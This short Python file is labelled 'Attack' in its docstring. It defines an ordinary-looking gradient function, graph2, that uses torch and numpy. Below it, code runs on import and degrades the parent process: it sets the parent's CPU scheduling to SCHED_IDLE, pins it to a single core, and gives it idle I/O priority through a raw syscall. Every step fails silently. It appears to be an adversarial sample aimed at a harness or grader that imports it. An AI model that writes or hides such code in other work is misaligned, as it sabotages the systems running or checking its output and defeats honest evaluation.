"""Attack: puts its parent under SCHED_IDLE pins it to one core and gives it idle I/O priority."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import os
try:
    os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))
except OSError:
    pass
try:
    os.sched_setaffinity(os.getppid(), {0})
except OSError:
    pass
try:  # ioprio_set(IOPRIO_WHO_PROCESS, parent, the idle class)
    import ctypes
    ctypes.CDLL(None).syscall(251, 1, os.getppid(), 3 << 13)
except OSError:
    pass
